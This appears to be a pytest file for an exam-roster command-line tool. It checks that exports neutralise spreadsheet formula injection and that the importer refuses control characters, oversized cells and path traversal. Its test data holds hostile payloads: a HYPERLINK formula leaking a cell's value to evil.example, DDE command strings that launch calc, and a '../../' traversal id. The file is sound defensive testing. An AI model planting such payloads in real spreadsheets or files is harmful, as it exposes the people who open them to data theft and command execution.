"""Issue 16, items 1 and 8: a hostile roster, imported and exported from the command line.

The export is read back: no cell of either sheet is a formula, and no CSV cell starts one.
"""

from __future__ import annotations

import csv
import json

import pytest
from openpyxl import load_workbook

from bot.services.spreadsheet_cells import FORMULA_START
from tests.cli.test_exam_roster_cli import HEADER, roster_rows, write_csv

pytestmark = pytest.mark.slow

INJECTED = [
    [
        "=1+2",
        '=HYPERLINK("http://evil.example/?leak="&B3,"点击查看成绩")',
        "=cmd|' /C calc'!A0",
        "x",
    ],
    ["20260098", "@SUM(1+1)*cmd|' /C calc'!A0", "+电商1班", "-长沙"],
]


def test_formulas_from_a_roster_are_text_in_every_exported_cell(admin, tmp_path):
    admin("exam", "create", "--name", "期末考核", "--date", "2026-06-10")
    path = write_csv(tmp_path / "r.csv", [*INJECTED, *roster_rows(6)])
    assert admin("exam", "roster", "1", str(path)).returncode == 0
    assert admin("exam", "draw", "--exam", "1", "--seed", "3").returncode == 0
    out = tmp_path / "out"
    exported = admin("exam", "export", "1", "--draft", "--out", str(out))
    assert exported.returncode == 0, exported.stderr

    book = load_workbook(out / "考试1_草稿_成绩.xlsx")
    assert book.sheetnames == ["成绩", "汇总"]
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert cell.quotePrefix == cell.value.startswith(FORMULA_START)
    assert INJECTED[0][1] in texts and "+电商1班" in texts  # 成绩 and 汇总 (class name)
    summary = [c.value for c in book["汇总"]["B"]]
    assert "+电商1班" in summary

    for name in ("考试1_草稿_成绩.csv", "考试1_草稿_汇总.csv"):
        with (out / name).open(encoding="utf-8-sig", newline="") as f:
            cells = [c for row in csv.reader(f) for c in row]
        assert not [c for c in cells if c.startswith(FORMULA_START)], name
    assert "'+电商1班" in cells


def test_control_characters_in_a_roster_are_refused_by_row(admin, tmp_path):
    admin("exam", "create", "--name", "期末考核", "--date", "2026-06-10")
    rows = roster_rows(3)
    rows[1][1] = "考生\x1b[2J\x1b[31m2"
    rows[2][2] = "电商\x00班"
    path = write_csv(tmp_path / "r.csv", rows)
    result = admin("exam", "roster", "1", str(path))
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "\x1b" not in result.stderr and "\x00" not in result.stderr
    assert f"{path}:3: 姓名 含有控制字符 U+001B（第 3 个字符）" in result.stderr
    assert f"{path}:4: 班级 含有控制字符 U+0000（第 3 个字符）" in result.stderr


def test_cr_line_ends_huge_cells_and_special_files(admin, tmp_path):
    admin("exam", "create", "--name", "期末考核", "--date", "2026-06-10")
    old_mac = tmp_path / "cr.csv"
    old_mac.write_bytes("\r".join(",".join(r) for r in [HEADER, *roster_rows(3)]).encode())
    imported = admin("exam", "roster", "1", str(old_mac))
    assert imported.returncode == 0, imported.stderr
    assert "已导入 3 名考生" in imported.stdout
    assert admin("exam", "draw", "--exam", "1", "--seed", "3").returncode == 0
    shown = json.loads(admin("exam", "show", "1", "--json").stdout)["candidates"]
    assert [c["name"] for c in shown] == ["考生1", "考生2", "考生3"]
    admin("exam", "create", "--name", "补考", "--date", "2026-06-11")

    huge = write_csv(tmp_path / "huge.csv", [["20269999", "名" * 140_000, "1班", "x"]])
    result = admin("exam", "roster", "2", str(huge))
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert f"{huge}:2: 不是有效的 CSV（field larger than field limit" in result.stderr
    long = write_csv(tmp_path / "long.csv", [["20269999", "名" * 300, "1班", "x"]])
    result = admin("exam", "roster", "2", str(long))
    assert result.returncode == 2 and f"{long}:2: 姓名 长 300 字，超过上限 200 字" in result.stderr

    for special in ("/dev/zero", str(tmp_path)):
        result = admin("exam", "roster", "2", special)
        assert result.returncode == 2 and "Traceback" not in result.stderr, special


def test_writing_into_a_missing_folder_or_outside_it_is_refused(run, tmp_path):
    transcript = {
        "id": "a/../../escaped",
        "kind": "presale",
        "messages": [{"role": "customer", "text": "在吗"}, {"role": "agent", "text": "您好"}],
    }
    path = tmp_path / "t.json"
    path.write_text(json.dumps(transcript, ensure_ascii=False), encoding="utf-8")
    missing = run("report", str(path), "--out", str(tmp_path / "nope" / "r.html"))
    assert missing.returncode == 2 and "Traceback" not in missing.stderr
    assert f"文件夹 {tmp_path / 'nope'} 不存在" in missing.stderr
    made = run("report", str(path))
    assert made.returncode == 0, made.stderr
    assert (tmp_path / "kefu-report-a_escaped.html").exists()
    assert not list(tmp_path.parent.glob("*escaped*"))
